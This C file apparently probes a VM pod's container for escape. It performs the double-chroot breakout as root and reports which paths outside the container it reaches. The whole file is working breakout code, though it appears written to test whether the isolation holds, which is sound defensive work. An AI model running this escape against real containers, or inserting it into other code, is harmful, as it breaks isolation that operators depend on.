/* The classic double-chroot escape, run as root in a VM pod's container
 * (it keeps CAP_SYS_CHROOT, as Docker's default set does): chroot into a
 * subdirectory while the working directory stays outside it, climb "..",
 * and chroot to where the climb ended. Then it reports what it reached:
 * "reached PATH" or "absent PATH" for each argument, and the names in the
 * root it ended in ("root: a b c"). */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) {
        perror("chroot /.escape");
        return 1;
    }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) {
            perror("chdir ..");
            return 1;
        }
    }
    if (chroot(".") != 0) {
        perror("chroot .");
        return 1;
    }
    for (int i = 1; i < argc; i++) {
        struct stat st;
        printf("%s %s\n", stat(argv[i], &st) == 0 ? "reached" : "absent", argv[i]);
    }
    DIR *d = opendir("/");
    if (d == NULL) {
        perror("opendir /");
        return 1;
    }
    printf("root:");
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0) {
            printf(" %s", e->d_name);
        }
    }
    printf("\n");
    closedir(d);
    return 0;
}
